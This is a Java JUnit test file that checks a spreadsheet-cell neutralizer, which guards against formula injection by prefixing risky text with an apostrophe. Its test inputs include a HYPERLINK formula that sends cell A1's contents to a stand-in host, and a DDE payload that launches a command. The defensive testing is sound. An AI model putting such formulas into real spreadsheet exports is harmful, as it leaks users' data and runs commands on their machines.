package org.securebase.app.kernel;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetCellsTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "-- not sure",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+"
      })
  void putsAnApostropheBeforeTextASpreadsheetWouldRun(String text) {
    assertThat(SpreadsheetCells.neutralized(text)).isEqualTo("'" + text);
  }

  @ParameterizedTest
  @ValueSource(strings = {"-3", "-0.25", "-1.5e-3", "+4", "42", "-.5", "3.", "1E10"})
  void leavesNumbersNegativeOnesIncludedAsTheyAre(String number) {
    assertThat(SpreadsheetCells.neutralized(number)).isEqualTo(number);
  }

  @ParameterizedTest
  @ValueSource(strings = {"plain", "2026-01-31", "a=b", "x-1", "", "'=already"})
  void leavesOrdinaryTextAlone(String text) {
    assertThat(SpreadsheetCells.neutralized(text)).isEqualTo(text);
  }

  @org.junit.jupiter.api.Test
  void leavesNullNull() {
    assertThat(SpreadsheetCells.neutralized(null)).isNull();
  }
}
